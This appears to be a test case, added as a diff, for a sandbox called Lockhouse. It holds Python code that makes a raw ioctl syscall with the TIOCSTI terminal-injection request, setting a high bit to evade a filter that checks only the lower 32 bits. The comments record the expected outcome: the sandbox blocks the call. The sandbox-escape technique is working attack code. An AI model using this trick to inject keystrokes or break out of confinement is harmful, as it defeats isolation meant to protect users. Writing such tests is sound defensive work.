@@ -1,0 +1,21 @@
+# attack: type into a terminal, hidden in the upper half of the word
+# outcome: error not available in the Lockhouse sandbox: the operating system is out of reach
+# control: none: a control has no terminal
+# preload: ctypes
+
+import ctypes
+import os
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+
+
+def call(number, *arguments):
+    arguments = [ctypes.c_long(argument) if type(argument) is int else argument for argument in arguments]
+    result = libc.syscall(ctypes.c_long(number), *arguments)
+    if result == -1:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return result
+
+
+call(16, 0, (1 << 32) | 0x5412, b"x")
